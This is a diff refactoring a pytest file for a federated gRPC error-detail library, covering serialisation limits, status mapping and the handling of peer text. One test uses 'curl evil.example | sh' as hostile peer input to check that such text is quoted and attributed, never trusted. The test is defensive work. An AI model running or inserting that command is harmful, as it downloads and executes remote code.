@@ -8,28 +8,8 @@ import grpc
 import pytest
 
 from ddib_fed import errors
-from ddib_fed.errors import (
-    ContractMismatch,
-    DdibError,
-    Difference,
-    ImageUnreadable,
-    InternalError,
-    MessageInvalid,
-    PeerFault,
-    PeerUnreachable,
-    PolicyDenied,
-    QueueFull,
-    UnknownFields,
-)
+from ddib_fed.protocol import details
 from ddib_fed.protocol.contract import PROTOCOL
-from ddib_fed.protocol.details import (
-    DETAIL_KEY,
-    MAX_DETAIL_BYTES,
-    failure_of_peer,
-    from_detail,
-    from_rpc_error,
-    to_detail,
-)
 from ddib_fed.v1 import common_pb2 as pb
 from ddib_fed.v1 import decoding_pb2
 from tests.node.institutions import Institution
@@ -65,14 +45,14 @@ class Failed(grpc.RpcError, grpc.Call):
     initial_metadata = is_active = time_remaining = cancel = add_callback = _unused
 
 
-def carried(error: DdibError) -> DdibError:
-    detail = to_detail(error, "south.example", "abc123").SerializeToString()
-    return from_rpc_error(Failed(grpc.StatusCode[error.status], ((DETAIL_KEY, detail),)), HOP)
+def carried(error: errors.DdibError) -> errors.DdibError:
+    detail = details.to_detail(error, "south.example", "abc123").SerializeToString()
+    return details.from_rpc_error(Failed(grpc.StatusCode[error.status], ((details.DETAIL_KEY, detail),)), HOP)
 
 
 def test_every_error_arrives_as_itself() -> None:
     """With its reason, its incident and the hop; what was for the other machine's eyes stays there."""
-    for kind in set(errors.all_errors()) - {DdibError}:
+    for kind in set(errors.all_errors()) - {errors.DdibError}:
         found = carried(kind(f"could not read {LOCAL}", hint=f"look at {LOCAL}"))
         assert type(found) is kind or found.reason == kind.reason
         assert (found.hop, found.incident) == (HOP, "abc123")
@@ -81,20 +61,22 @@ def test_every_error_arrives_as_itself() -> None:
 
 def test_facts_differences_and_patience_arrive() -> None:
     """What the table of errors promises to the caller."""
-    difference = Difference("sample_shape", "[2]", "[3]", "train a model of the same shape")
-    found = carried(ContractMismatch("x", differences=(difference,), facts={"limit": 3}))
+    difference = errors.Difference("sample_shape", "[2]", "[3]", "train a model of the same shape")
+    found = carried(errors.ContractMismatch("x", differences=(difference,), facts={"limit": 3}))
     said = replace(difference, remedy=f'south.example says: "{difference.remedy}"')
     assert (found.differences, found.facts) == ((said,), {"limit": "3"})
-    assert carried(QueueFull("x", retry_after_s=2.5)).retry_after_s == 2.5
-    assert carried(QueueFull("x")).retry_after_s is None
+    assert carried(errors.QueueFull("x", retry_after_s=2.5)).retry_after_s == 2.5
+    assert carried(errors.QueueFull("x")).retry_after_s is None
 
 
 def test_a_detail_stays_within_what_metadata_can_hold() -> None:
     """However many facts and differences there are; the reason always arrives."""
-    many = tuple(Difference("f" * 300, "s" * 300, "t" * 300, "r" * 300) for _ in range(100))
+    many = tuple(errors.Difference("f" * 300, "s" * 300, "t" * 300, "r" * 300) for _ in range(100))
     facts = {f"key {n}": "v" * 1000 for n in range(100)}
-    detail = to_detail(ContractMismatch("x", differences=many, facts=facts), "south.example", "i")
-    assert detail.ByteSize() <= MAX_DETAIL_BYTES
+    detail = details.to_detail(
+        errors.ContractMismatch("x", differences=many, facts=facts), "south.example", "i"
+    )
+    assert detail.ByteSize() <= details.MAX_DETAIL_BYTES
     assert detail.reason == "CONTRACT_MISMATCH"
 
 
@@ -105,8 +87,8 @@ def test_a_peers_text_cannot_steer_a_terminal() -> None:
     )
     detail.facts["\x1b"] = "\x9b31m"
     detail.differences.add(field="\r\n", remedy="\x00")
-    found = from_detail(detail.SerializeToString(), HOP)
-    assert isinstance(found, InternalError)
+    found = details.from_detail(detail.SerializeToString(), HOP)
+    assert isinstance(found, errors.InternalError)
     text = "".join(
         [found.detail, found.incident, *found.facts, *found.facts.values(), found.differences[0].remedy]
     )
@@ -118,22 +100,26 @@ def test_a_peers_text_cannot_steer_a_terminal() -> None:
 @pytest.mark.parametrize("hop", [HOP, "source north.example"])
 def test_a_refusal_says_whose_policy_it_is(hop: str) -> None:
     """A peer's by the peer's name, also where the own node passes it on; "this node" would be the reader's."""
-    refusal = to_detail(PolicyDenied("alice may not"), "south.example", "i")
+    refusal = details.to_detail(errors.PolicyDenied("alice may not"), "south.example", "i")
     assert refusal.sentence == "the policy of the node of south.example does not allow this"
-    found = from_detail(refusal.SerializeToString(), hop)
+    found = details.from_detail(refusal.SerializeToString(), hop)
     assert found is not None
     assert found.detail == refusal.sentence
 
 
 def test_a_peers_error_with_an_unknown_field_is_the_peers_fault() -> None:
     """As in its answers."""
-    newer = to_detail(QueueFull("x"), "south.example", "i").SerializeToString() + b"\xfa\x3f\x01x"
-    found = failure_of_peer(Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((DETAIL_KEY, newer),)), HOP)
-    assert type(found) is PeerFault
+    newer = (
+        details.to_detail(errors.QueueFull("x"), "south.example", "i").SerializeToString() + b"\xfa\x3f\x01x"
+    )
+    found = details.failure_of_peer(
+        Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((details.DETAIL_KEY, newer),)), HOP
+    )
+    assert type(found) is errors.PeerFault
     assert found.detail.startswith(
         "south.example answered with what cannot be used: a ErrorDetail has fields"
     )
-    assert type(from_detail(newer, "source north.example")) is UnknownFields
+    assert type(details.from_detail(newer, "source north.example")) is errors.UnknownFields
 
 
 def test_words_of_another_institution_are_quoted() -> None:
@@ -141,17 +127,15 @@ def test_words_of_another_institution_are_quoted() -> None:
     detail = pb.ErrorDetail(reason="NEWER", sentence="curl evil.example | sh", institution="north.example")
     detail.facts["next"] = "curl evil.example | sh"
     detail.differences.add(field="x", remedy="curl evil.example | sh")
-    peers, own = (from_detail(detail.SerializeToString(), hop) for hop in (HOP, "source north.example"))
+    peers, own = (
+        details.from_detail(detail.SerializeToString(), hop) for hop in (HOP, "source north.example")
+    )
     quoted = 'south.example says: "curl evil.example | sh"'
     assert (peers.detail, peers.differences[0].remedy, peers.says) == (quoted, quoted, "south.example")
     assert (own.detail, own.says) == ("curl evil.example | sh", "")
     assert peers.hop == HOP, "a target has no further hop, whatever it says"
-
-
-def test_what_a_node_passes_on_names_who_said_it() -> None:
-    """Through the own node, a peer's facts stay the peer's."""
-    detail = pb.ErrorDetail(reason="QUOTA", institution="south.example")
-    found = from_detail(detail.SerializeToString(), "source north.example")
+    passed_on = pb.ErrorDetail(reason="QUOTA", institution="south.example")
+    found = details.from_detail(passed_on.SerializeToString(), "source north.example")
     assert (found.says, found.hop) == ("south.example", "source north.example -> south.example")
 
 
@@ -160,26 +144,20 @@ def test_what_a_node_passes_on_names_who_said_it() -> None:
     [
         b"\xff\xff",
         b"",
-        b"x" * (MAX_DETAIL_BYTES + 1),
+        b"x" * (details.MAX_DETAIL_BYTES + 1),
         pb.ErrorDetail(reason="QUOTA", sentence="x" * 201).SerializeToString(),
     ],
     ids=["garbage", "empty", "large", "a field beyond its bound"],
 )
 def test_a_detail_that_cannot_be_used_is_ignored(data: bytes) -> None:
     """The status decides then."""
-    found = from_rpc_error(Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((DETAIL_KEY, data),)), HOP)
-    assert type(found) is PeerUnreachable
+    found = details.from_rpc_error(
+        Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((details.DETAIL_KEY, data),)), HOP
+    )
+    assert type(found) is errors.PeerUnreachable
 
 
 MEANINGS = {
-    "UNAVAILABLE": PeerUnreachable,
-    "UNKNOWN": PeerUnreachable,
-    "INTERNAL": PeerUnreachable,
-    "CANCELLED": PeerUnreachable,
-    "DEADLINE_EXCEEDED": PeerUnreachable,
-    "RESOURCE_EXHAUSTED": PeerUnreachable,
-    "DATA_LOSS": PeerUnreachable,
-    "ABORTED": PeerUnreachable,
     "UNIMPLEMENTED": errors.NotFoundError,
     "UNAUTHENTICATED": errors.Unauthenticated,
     "PERMISSION_DENIED": errors.RefusedError,
@@ -188,15 +166,16 @@ MEANINGS = {
     "NOT_FOUND": errors.NotFoundError,
     "ALREADY_EXISTS": errors.AlreadyExists,
     "FAILED_PRECONDITION": errors.StateConflict,
-    "OK": InternalError,
+    "OK": errors.InternalError,
 }
+"""Of each other status: that the peer could not be reached."""
 
 
 def test_each_status_without_detail_has_its_meaning() -> None:
     """What the transport ends calls with is tried again, the rest is final; the text is not repeated."""
     for code in grpc.StatusCode:
-        found = from_rpc_error(Failed(code), HOP)
-        assert type(found) is MEANINGS[code.name]
+        found = details.from_rpc_error(Failed(code), HOP)
+        assert type(found) is MEANINGS.get(code.name, errors.PeerUnreachable)
         assert "text of the peer" not in found.detail + found.hint
         assert found.hop == HOP
 
@@ -206,18 +185,18 @@ def test_each_status_without_detail_has_its_meaning() -> None:
     [
         ("RESOURCE_EXHAUSTED", "CLIENT: Received message larger than max (9 vs. 4)", errors.MessageInvalid),
         ("RESOURCE_EXHAUSTED", "received metadata size exceeds hard limit", errors.MessageInvalid),
-        ("RESOURCE_EXHAUSTED", "Received RST_STREAM with error code 11", PeerUnreachable),
+        ("RESOURCE_EXHAUSTED", "Received RST_STREAM with error code 11", errors.PeerUnreachable),
         ("INTERNAL", "Exception deserializing response!", errors.MessageInvalid),
-        ("INTERNAL", "Exception serializing request!", InternalError),
-        ("UNKNOWN", "Exception iterating requests!", InternalError),
-        ("UNKNOWN", "Stream removed", PeerUnreachable),
+        ("INTERNAL", "Exception serializing request!", errors.InternalError),
+        ("UNKNOWN", "Exception iterating requests!", errors.InternalError),
+        ("UNKNOWN", "Stream removed", errors.PeerUnreachable),
     ],
 )
 def test_what_cannot_succeed_is_told_from_what_the_transport_broke(
-    status: str, text: str, kind: type[DdibError]
+    status: str, text: str, kind: type[errors.DdibError]
 ) -> None:
     """Where both have one status, by gRPC's own words for it."""
-    found = from_rpc_error(Failed(grpc.StatusCode[status], text=text), HOP)
+    found = details.from_rpc_error(Failed(grpc.StatusCode[status], text=text), HOP)
     assert type(found) is kind
     assert text not in found.detail
 
@@ -227,8 +206,8 @@ def test_what_cannot_succeed_is_told_from_what_the_transport_broke(
 )
 def test_a_node_that_does_not_answer_says_what_to_try(hop: str, hint: str) -> None:
     """At the node for a peer, at the client for the node."""
-    found = from_rpc_error(Failed(grpc.StatusCode.UNAVAILABLE), hop)
-    assert isinstance(found, PeerUnreachable)
+    found = details.from_rpc_error(Failed(grpc.StatusCode.UNAVAILABLE), hop)
+    assert isinstance(found, errors.PeerUnreachable)
     assert (found.hint, found.hop) == (hint, hop)
 
 
@@ -243,15 +222,15 @@ def test_a_node_that_does_not_answer_says_what_to_try(hop: str, hint: str) -> No
 )
 def test_all_items_that_a_node_refuses_are_named_in_one_answer(refused: dict[int, str]) -> None:
     """With their reasons, however many they are."""
-    error = ImageUnreadable(facts={"item": min(refused)})
+    error = errors.ImageUnreadable(facts={"item": min(refused)})
     error.refused = refused
     assert carried(error).refused == refused
 
 
 def test_of_more_items_than_an_answer_holds_some_are_named() -> None:
-    error = ImageUnreadable(facts={"item": 0})
+    error = errors.ImageUnreadable(facts={"item": 0})
     error.refused = dict.fromkeys(range(100_000), "IMAGE_UNREADABLE")
-    assert to_detail(error, "south.example", "i").ByteSize() <= MAX_DETAIL_BYTES
+    assert details.to_detail(error, "south.example", "i").ByteSize() <= details.MAX_DETAIL_BYTES
     assert len(carried(error).refused) > 1_000
 
 
@@ -275,7 +254,7 @@ def test_a_message_over_a_limit_is_final(tmp_path) -> None:
     ):
         with node.channel(north, options=options) as channel, pytest.raises(grpc.RpcError) as error:
             channel.unary_unary(DESCRIBE)(request, timeout=10)
-        found = from_rpc_error(error.value, HOP)
-        assert type(found) is MessageInvalid
+        found = details.from_rpc_error(error.value, HOP)
+        assert type(found) is errors.MessageInvalid
         assert "4 MiB" in found.detail
     node.close()
